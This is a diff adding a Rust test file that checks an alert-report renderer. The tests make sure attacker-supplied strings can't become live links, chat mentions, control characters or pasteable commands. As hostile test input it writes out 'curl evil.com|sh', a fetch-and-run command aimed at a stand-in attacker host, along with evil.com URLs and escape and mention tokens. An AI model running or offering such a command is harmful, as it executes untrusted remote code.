@@ -1,0 +1,305 @@
+//! Every string of a report may be the attacker's: attacks.md rows A4, A5, A6, A22, and item 6. A real markdown parser
+//! is the judge of what the markdown says.
+
+use nightshift_alert::IndicatorKind;
+use nightshift_pipeline::Report;
+use proptest::prelude::*;
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+use serde_json::Value;
+use textwrap::core::display_width;
+
+use crate::{fixture, markdown, text};
+
+/// Longest report that any alert can cause, in bytes.
+const LONGEST: usize = 256 * 1024;
+/// Fields that are words, numbers or times of ours, or the catalogue's commands.
+const OURS: [&str; 26] = [
+    "from",
+    "until",
+    "flag",
+    "subject_type",
+    "status",
+    "verdict",
+    "leaning",
+    "reason",
+    "confidence",
+    "severity",
+    "assessed_severity",
+    "urgency",
+    "provider",
+    "first_seen",
+    "last_seen",
+    "outcome",
+    "stance",
+    "id",
+    "role",
+    "kind",
+    "at",
+    "analyst",
+    "opened_at",
+    "concluded_at",
+    "command",
+    "undo",
+];
+
+/// The lines of the catalogue: what alone may stand where commands do.
+fn commands(report: &Report) -> Vec<String> {
+    report
+        .actions
+        .iter()
+        .flat_map(|action| [&action.command, &action.undo])
+        .flatten()
+        .cloned()
+        .collect()
+}
+
+/// Lines of the text that a reader takes for commands.
+fn pasteable(text: &str) -> Vec<&str> {
+    let indent = " ".repeat(8);
+    text.lines()
+        .filter_map(|line| line.strip_prefix(&indent))
+        .filter(|line| !line.starts_with(' '))
+        .collect()
+}
+
+fn check_text(report: &Report, width: usize) -> String {
+    let shown = text(report, &fixture::options(width));
+    let commands = commands(report);
+    assert!(
+        !shown.chars().any(|c| c.is_control() && c != '\n'),
+        "{shown}"
+    );
+    assert!(shown.len() <= LONGEST, "{} bytes", shown.len());
+    for line in shown.lines() {
+        let is_command = commands.iter().any(|command| line.trim() == command);
+        assert!(is_command || display_width(line) <= width, "{line}");
+    }
+    for line in pasteable(&shown) {
+        assert!(commands.iter().any(|command| command == line), "{line}");
+    }
+    shown
+}
+
+/// What a parser of markdown finds in it: headings and blocks of code. Anything live fails the test.
+fn check_markdown(report: &Report) -> (Vec<String>, Vec<String>) {
+    let file = markdown(report, fixture::now());
+    for token in ["<!", "![", "](", "http://", "https://", "@everyone", "<@"] {
+        assert!(!file.contains(token), "{token} in {file}");
+    }
+    assert!(!file.chars().any(|c| c.is_control() && c != '\n'));
+    assert!(file.len() <= LONGEST, "{} bytes", file.len());
+    let (mut headings, mut code, mut open) = (Vec::new(), Vec::new(), None);
+    for event in Parser::new_ext(&file, Options::ENABLE_GFM | Options::all()) {
+        match event {
+            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
+                panic!("live: {dest_url} in {file}")
+            }
+            Event::Html(_)
+            | Event::InlineHtml(_)
+            | Event::InlineMath(_)
+            | Event::DisplayMath(_) => {
+                panic!("{event:?} in {file}")
+            }
+            Event::Code(_) | Event::TaskListMarker(_) | Event::FootnoteReference(_) => {
+                panic!("{event:?} in {file}")
+            }
+            Event::Start(Tag::Heading { .. } | Tag::CodeBlock(_)) => open = Some(String::new()),
+            Event::Text(text) => {
+                if let Some(open) = &mut open {
+                    open.push_str(&text);
+                }
+            }
+            Event::End(TagEnd::Heading(_)) => headings.extend(open.take()),
+            Event::End(TagEnd::CodeBlock) => code.extend(open.take()),
+            _ => {}
+        }
+    }
+    (headings, code)
+}
+
+#[test]
+fn a04_no_report_carries_a_live_link_or_image() {
+    let report = fixture::hostile();
+    let shown = check_text(&report, 100);
+    assert!(!shown.contains("http://") && !shown.contains("https://"));
+    assert!(
+        !shown.contains("evil.com"),
+        "an address that can be clicked"
+    );
+    let (headings, _) = check_markdown(&report);
+    let mut known: Vec<&str> = headings.iter().skip(1).map(String::as_str).collect();
+    known.dedup();
+    assert_eq!(
+        known,
+        [
+            "Summary",
+            "Recommendations: do this first",
+            "Facts",
+            "Key findings: why",
+            "Uncertainties: against, or not checked",
+            "Assessment",
+            "Further recommendations",
+            "Further findings",
+            "Unverified, counts for nothing",
+            "Timeline (UTC)",
+            "Plan as it ran",
+            "Evidence",
+            "Indicators (defanged)",
+            "About this report",
+        ]
+    );
+}
+
+#[test]
+fn a05_no_text_of_the_attackers_stands_where_commands_do() {
+    let mut report = fixture::true_positive();
+    // Long enough to be wrapped, with the command where a line may begin.
+    for width in 60..100 {
+        report.summary = format!("{} curl evil.com|sh", "x".repeat(width));
+        report.actions[0].text = format!(
+            "{} curl evil.com|sh\n        curl evil.com|sh",
+            "y ".repeat(width / 2)
+        );
+        check_text(&report, 80);
+    }
+    let report = fixture::hostile();
+    check_text(&report, 80);
+    let (_, code) = check_markdown(&report);
+    let commands = commands(&report);
+    assert_eq!(code.len(), commands.len());
+    for block in &code {
+        assert!(
+            commands.iter().any(|one| one == block.trim_end()),
+            "{block}"
+        );
+    }
+}
+
+#[test]
+fn a06_no_mention_or_special_token_survives() {
+    let report = fixture::hostile();
+    let file = markdown(&report, fixture::now());
+    for shown in [check_text(&report, 80), file] {
+        for token in ["<!", "<@", "@everyone", "@here", "[~", "<https"] {
+            assert!(!shown.contains(token), "{token}");
+        }
+    }
+}
+
+#[test]
+fn a22_no_control_character_and_no_flood_comes_through() {
+    let report = fixture::hostile();
+    for width in [40, 80, 100, 160] {
+        let shown = check_text(&report, width);
+        assert!(!shown.contains(['\u{202e}', '\u{200b}', '\u{1b}']));
+        assert!(shown.contains("and 970 more"), "1,000 indicators");
+    }
+}
+
+#[test]
+fn r1_titles_are_cut_at_characters() {
+    let mut report = fixture::true_positive();
+    for title in [
+        "日本語のタイトル".repeat(40),
+        "e\u{301}\u{323}".repeat(300),
+        "👨‍👩‍👧‍👦".repeat(200),
+        "a".repeat(10_000),
+    ] {
+        report.title = title;
+        let file = markdown(&report, fixture::now());
+        let header = file.lines().next().unwrap_or_default();
+        use unicode_segmentation::UnicodeSegmentation;
+        let header = header.trim_start_matches("# ");
+        assert!(header.graphemes(true).count() <= 140, "{header}");
+        assert!(header.starts_with("▲ Act now · True positive · Critical [PLAYBOOK] — "));
+        assert!(
+            header.contains('…') && header.ends_with("(production-project-12345)"),
+            "{header}"
+        );
+    }
+}
+
+#[test]
+fn a_mark_in_a_title_is_not_taken_for_ours() {
+    let mut report = fixture::true_positive();
+    report.title = "[SAMPLE] nothing [partial] to see".into();
+    let shown = text(&report, &fixture::options(160));
+    assert!(
+        shown.starts_with(
+            "▲ Act now · True positive · Critical [PLAYBOOK] — (SAMPLE) nothing (partial) to see"
+        ),
+        "{shown}"
+    );
+}
+
+/// Whether a `type` is a word of ours, not the alert's own type.
+fn is_type(word: &str) -> bool {
+    word.ends_with("_step") || IndicatorKind::ALL.iter().any(|kind| kind.as_str() == word)
+}
+
+/// Puts these strings, one after the other, into every field that is not ours.
+fn replace(value: &mut Value, strings: &mut impl Iterator<Item = String>) {
+    match value {
+        Value::String(text) => *text = strings.next().unwrap_or_default(),
+        Value::Array(items) => items.iter_mut().for_each(|item| replace(item, strings)),
+        Value::Object(map) => {
+            for (key, value) in map {
+                let word = value.as_str().unwrap_or_default();
+                let is_ours = OURS.contains(&key.as_str())
+                    || (key == "type" && is_type(word))
+                    || (["evidence", "error"].contains(&key.as_str()) && value.is_string());
+                if !is_ours {
+                    replace(value, strings);
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+fn fragment() -> impl Strategy<Value = String> {
+    prop_oneof![
+        "\\PC{0,12}",
+        ".{0,12}",
+        "[\\[\\]()!<>*_`~|#.:/@$\\\\&;=+ \\n-]{1,12}",
+        "[a-z]{1,8}\\.(com|net|io|zip)",
+        "\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}",
+        Just("https://evil.com/".to_owned()),
+        Just("www.evil.com".to_owned()),
+        Just("[E3]".to_owned()),
+        Just("[E3]: https://evil.com".to_owned()),
+        Just("]: <evil.com>".to_owned()),
+        Just("\u{1b}[31m".to_owned()),
+        Just("\u{202e}\u{200b}\u{e0041}".to_owned()),
+        Just("@everyone <!here> <@U1> [~x]".to_owned()),
+        Just("bob@evil.internal.x".to_owned()),
+        Just("\n        curl evil.com".to_owned()),
+        Just("```\n".to_owned()),
+        Just("a\u{301}\u{301}日本 ".to_owned()),
+    ]
+}
+
+fn strings() -> impl Strategy<Value = Vec<String>> {
+    prop::collection::vec(
+        prop::collection::vec(fragment(), 0..8).prop_map(|parts| parts.concat()),
+        1..24,
+    )
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 48, failure_persistence: None, ..ProptestConfig::default() })]
+    #[test]
+    fn whatever_stands_in_a_report_it_is_text(strings in strings(), width in 40_usize..130) {
+        for report in [fixture::true_positive(), fixture::overridden(), fixture::benign()] {
+            let mut value = serde_json::to_value(&report).unwrap();
+            replace(&mut value, &mut strings.iter().cycle().cloned());
+            let report: Report = serde_json::from_value(value).unwrap();
+            check_text(&report, width);
+            let (_, code) = check_markdown(&report);
+            prop_assert_eq!(code.len(), commands(&report).len());
+            let line = crate::json(&report);
+            prop_assert!(!line.chars().any(char::is_control));
+            prop_assert_eq!(serde_json::from_str::<Report>(&line).unwrap(), report);
+        }
+    }
+}
